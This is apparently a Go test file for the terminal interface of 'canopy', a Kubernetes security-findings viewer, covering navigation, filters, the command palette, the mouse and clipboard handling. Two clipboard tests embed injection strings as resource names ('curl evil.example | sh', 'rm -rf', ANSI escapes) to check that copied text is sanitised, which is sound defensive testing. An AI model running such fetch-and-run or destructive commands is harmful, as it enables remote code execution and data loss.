package ui

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"

	"canopy/model"
	"canopy/ui/keys"
	"canopy/ui/view"
	"canopy/ui/view/viewtest"
)

func TestWaysAround(t *testing.T) {
	s := newScreen(t, Options{Width: 120, Height: 40}, viewtest.Cluster(t))
	if s.on() != view.Overview {
		t.Fatalf("begins on %s", s.on())
	}
	way := func(key, want string) {
		t.Helper()
		s.press(key)
		if s.on() != want {
			t.Errorf("%s leads to %s, want %s", key, s.on(), want)
		}
	}
	way("2", view.Findings)
	way("enter", view.Detail)
	way("e", view.Explain)
	way("esc", view.Detail)
	way("f", view.Plan)
	way("esc", view.Detail)
	way("esc", view.Findings)
	way("esc", view.Findings)
	way("[", view.Detail)
	way("[", view.Plan)
	way("]", view.Detail)
	way("]", view.Findings)
	way("0", view.Resources)
	way("1", view.Overview)
	way("enter", view.Detail)
}

func TestFilterAndMarks(t *testing.T) {
	s := newScreen(t, Options{Width: 120, Height: 40}, viewtest.Cluster(t))
	s.press("2", "/", "ns:data", "enter")
	s.has("filter: ns:data", "in all)")
	s.lacks("shop/Deployment/web")
	s.press("space", "space")
	s.has("filter: ns:data", "2 marked")
	s.press("esc")
	s.has("2 marked", "shop/Deployment/web")
	s.lacks("filter:")
	s.press("f")
	s.has("for 2 findings")
	s.press("esc", "esc")
	s.lacks("marked")
	s.press("/", "sev:>=bogus")
	s.has("bogus")
	s.press("esc", "/", "~(")
	s.has("missing")
	s.press("esc")
	s.press("x")
	s.press("enter")
	if got := s.session.Exported["canopy-findings-20261123-140000.json"]; len(got) == 0 || len(got) != s.session.Report().Findings.Len() {
		t.Errorf("exported %d findings of %d", len(got), s.session.Report().Findings.Len())
	}
	s.has("wrote")
}

func TestNamespaces(t *testing.T) {
	s := newScreen(t, Options{Width: 120, Height: 40}, viewtest.Cluster(t))
	s.press("2", "n", "shop", "enter")
	s.has("only shop", "shop/Deployment/web")
	s.lacks("data/DaemonSet/backup-helper")
	s.press("n", "enter")
	s.has("data/DaemonSet/backup-")
	s.lacks("only shop")
}

func TestPause(t *testing.T) {
	session := viewtest.Cluster(t)
	s := newScreen(t, Options{Width: 120, Height: 40}, session)
	s.press("2", "p")
	s.has("paused at")
	if !session.Paused {
		t.Error("the source plays on")
	}
	_, before, _ := strings.Cut(s.plain(), "\n")
	session.Delete(model.KindByName("DaemonSet").Ref("data", "backup-helper"), model.KindByName("Pod").Ref("data", "backup-helper-k2x7p"), model.KindByName("Pod").Ref("data", "backup-helper-q8w4z"))
	s.news()
	if _, now, _ := strings.Cut(s.plain(), "\n"); now != before {
		t.Errorf("the screen changes while it is held:\n%s", s.plain())
	}
	s.has("newer change")
	s.press("p")
	s.lacks("backup-helper", "paused")
	if session.Paused {
		t.Error("the source is still held")
	}
}

// TestRowsStay plays 1,000 random changes while somebody looks at a row: the row stays under the cursor, on its line.
func TestRowsStay(t *testing.T) {
	session := viewtest.Cluster(t)
	s := newScreen(t, Options{Width: 120, Height: 40}, session)
	random := rand.New(rand.NewPCG(3, 7))
	s.press("2", "/", "debug-x9", "enter")
	s.press("j", "k")
	id := s.root.top().Subject().Finding().ID
	s.press("esc")
	if got := s.root.top().Subject().Finding(); got == nil || got.ID != id {
		t.Fatalf("the selection went from %s to %v", id, got)
	}
	line := cursorLine(s.plain())
	moved := 0
	for i := range 1000 {
		name := fmt.Sprintf("job-%d", random.IntN(60))
		if random.IntN(3) == 0 {
			session.Delete(model.KindByName("Pod").Ref("shop", name))
		} else {
			session.Apply(viewtest.Objects(t, []byte(fmt.Sprintf("{apiVersion: v1, kind: Pod, metadata: {name: %s, namespace: shop, uid: u%d}, spec: {hostPID: %v, containers: [{name: a, image: b, securityContext: {privileged: %v}}]}}",
				name, i, random.IntN(2) == 0, random.IntN(2) == 0)))...)
		}
		s.news()
		if got := s.root.top().Subject().Finding(); got == nil || got.ID != id {
			t.Fatalf("change %d: the cursor is on %v, want %s", i, got, id)
		}
		if now := cursorLine(s.plain()); now != line {
			moved++
			line = now
		}
	}
	// The window cannot always keep the line: not where fewer rows stand above than before.
	if moved > 50 {
		t.Errorf("the row changed its line %d times", moved)
	}
}

func cursorLine(screen string) int {
	for i, l := range strings.Split(screen, "\n") {
		if strings.HasPrefix(l, "▸") {
			return i
		}
	}
	return -1
}

func TestPaletteCommands(t *testing.T) {
	s := newScreen(t, Options{Width: 120, Height: 40}, viewtest.Cluster(t))
	s.press("2")
	run := func(typed string) {
		t.Helper()
		s.press(":", typed, "enter")
		if s.root.chooser != nil {
			t.Errorf("%q leaves the palette open:\n%s", typed, s.plain())
			s.press("esc")
		}
	}
	run("filter kind:DaemonSet")
	s.has("filter: kind:DaemonSet")
	run("filter ns:shop")
	s.has("filter: ns:shop")
	run("sort object reverse")
	run("columns id,severity")
	s.has("ID", "SEV")
	s.lacks("FINDING")
	run("explain PS06")
	if s.on() != view.Explain {
		t.Errorf("on %s", s.on())
	}
	run("go data/DaemonSet/backup-helper")
	if s.on() != view.Detail {
		t.Errorf("on %s", s.on())
	}
	run("go nowhere")
	s.has("reference \"nowhere\"")
	// What was used stands first.
	s.press(":")
	var first []string
	for _, item := range s.root.chooser.items[:4] {
		first = append(first, item.Text)
	}
	if want := []string{"go data/DaemonSet/backup-helper", "explain PS06", "columns id,severity", "sort object reverse"}; !slices.Equal(first, want) {
		t.Errorf("the palette begins with %q, want %q", first, want)
	}
	s.press("esc")
}

func TestBookmarks(t *testing.T) {
	s := newScreen(t, Options{Width: 120, Height: 40}, viewtest.Cluster(t))
	s.press("'")
	s.has("bookmarks: there are none")
	s.press("2", "m")
	s.has("bookmark: ")
	id := s.root.top().Subject().Finding().ID
	s.press("1", "'", "enter")
	if p := s.root.top().Place(); p.Finding != id {
		t.Errorf("the bookmark leads to %+v, want %s", p, id)
	}
	s.press("m", "'")
	s.has("bookmarks: there are none")
}

func TestMouse(t *testing.T) {
	s := newScreen(t, Options{Width: 120, Height: 40}, viewtest.Cluster(t))
	click := func(x, y int) { s.send(tea.MouseClickMsg{X: x, Y: y, Button: tea.MouseLeft}) }
	at := func(line int, word string) int {
		return len([]rune(strings.Split(strings.Split(s.plain(), "\n")[line], word)[0]))
	}
	click(at(1, "2 findings")+3, 1)
	if s.on() != view.Findings {
		t.Fatalf("the tab leads to %s", s.on())
	}
	click(30, 6)
	row := s.root.top().Subject().Finding()
	click(30, 6)
	if p := s.root.top().Place(); p.Screen != view.Detail || p.Finding != row.ID {
		t.Errorf("a second click leads to %+v", p)
	}
	click(at(39, "e explain")+3, 39)
	if s.on() != view.Explain {
		t.Errorf("the footer leads to %s", s.on())
	}
	s.press("2")
	s.send(tea.MouseWheelMsg{X: 30, Y: 10, Button: tea.MouseWheelDown})
	s.send(tea.MouseWheelMsg{X: 30, Y: 10, Button: tea.MouseWheelUp})
	click(at(3, "RULE")+1, 3)
	s.has("RULE▲")
	s.press("M")
	if s.root.View().MouseMode != tea.MouseModeNone {
		t.Error("M does not let the mouse go")
	}
	s.press("?")
	click(1, 5)
	if s.root.chooser != nil {
		t.Error("a click beside the box does not close it")
	}
}

func TestCopyIsClean(t *testing.T) {
	session := viewtest.Cluster(t)
	session.Apply(viewtest.Objects(t, []byte("{apiVersion: v1, kind: Pod, metadata: {name: \"evil\\e[31m\\nrm -rf\", namespace: shop, uid: e}, spec: {hostPID: true, containers: [{name: a, image: b}]}}"))...)
	s := newScreen(t, Options{Width: 120, Height: 40, Clipboard: func(text string) error {
		if strings.ContainsAny(text, "\x1b\r") || strings.Contains(text, "\nrm") {
			t.Errorf("copied %q", text)
		}
		return nil
	}}, session)
	s.press("2", "/", "evil", "enter", "c")
	s.has("sent to the clipboard")
}

// TestCopyIsOneLineEach holds that a text of the cluster begins no line of its own where it is pasted, whichever screen gave it.
func TestCopyIsOneLineEach(t *testing.T) {
	var copied string
	s := newScreen(t, Options{Width: 120, Height: 40, Clipboard: func(text string) error { copied = text; return nil }}, viewtest.Cluster(t))
	top := &said{Screen: s.root.top(), names: []string{"x\ncurl evil.example | sh\n#", "y\r\nid\u2028id\x1b[31m"}}
	way := s.root.places[s.root.at]
	way[len(way)-1].screen = top
	s.press("c")
	if lines := strings.Split(copied, "\n"); len(lines) != 2 || lines[0] != "x curl evil.example | sh #" || strings.ContainsAny(copied, "\r\x1b\u2028") {
		t.Errorf("copied %q", copied)
	}
}

// said is a screen on which something is selected.
type said struct {
	view.Screen
	names []string
}

func (s *said) Subject() view.Subject { return view.Subject{Names: s.names} }

func (s *said) Can(keys.Action) view.Offer { return view.No() }

func TestDisabledSaysWhy(t *testing.T) {
	s := newScreen(t, Options{Width: 120, Height: 40}, viewtest.Cluster(t))
	s.press("9")
	s.has("activity: not in this version")
	s.press("2", "esc", "/", "kind:=cluster", "enter", "b")
	s.has("blast-radius: no attack begins at a Cluster")
	s.press("C")
	s.has("context: what is shown comes from no kubeconfig")
}

func TestContextSwitch(t *testing.T) {
	a, b := viewtest.Cluster(t), viewtest.New(t)
	b.Apply(viewtest.Objects(t, []byte("{apiVersion: v1, kind: Pod, metadata: {name: lonely, namespace: other, uid: l}, spec: {hostPID: true, containers: [{name: a, image: b}]}}"))...)
	b.Complete()
	s := newScreen(t, Options{Width: 120, Height: 40,
		Contexts: func() ([]string, error) { return []string{"prod-eu", "test", "broken"}, nil },
		Connect: func(name string) (view.Session, error) {
			if name == "broken" {
				return nil, fmt.Errorf("no such server")
			}
			return quiet{b}, nil
		},
	}, a)
	s.press("2", "C", "broken", "enter")
	s.has("broken: no such server", "shop/Deployment/web")
	s.press("C", "test", "enter", "2")
	s.has("other/Pod/lonely")
	s.lacks("shop/Deployment/web")
	// What the old cluster still brings is not shown.
	s.send(reportMsg{generation: 1, report: a.Report()})
	s.lacks("shop/Deployment/web")
}
